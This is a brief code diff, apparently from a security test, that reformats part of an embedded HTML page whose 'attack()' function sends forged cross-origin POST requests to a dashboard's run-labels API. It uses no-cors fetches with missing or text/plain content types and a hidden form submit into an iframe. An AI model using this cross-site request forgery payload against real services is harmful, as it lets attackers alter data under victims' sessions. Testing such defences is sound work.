@@ -177,7 +177,10 @@ async function attack() {
   const url = "DASH/api/runs/RUN/labels", body = JSON.stringify({id: ID, label: "hack", note: "fetch"});
   await fetch(url, {method: "POST", mode: "no-cors", body: new Blob([body])});  // no Content-Type at all
   await fetch(url, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
-  await new Promise((done) => { document.querySelector("iframe").onload = done; document.getElementById("f").submit(); });
+  await new Promise((done) => {
+    document.querySelector("iframe").onload = done;
+    document.getElementById("f").submit();
+  });
   return "sent";
 }
 </script></body>"""
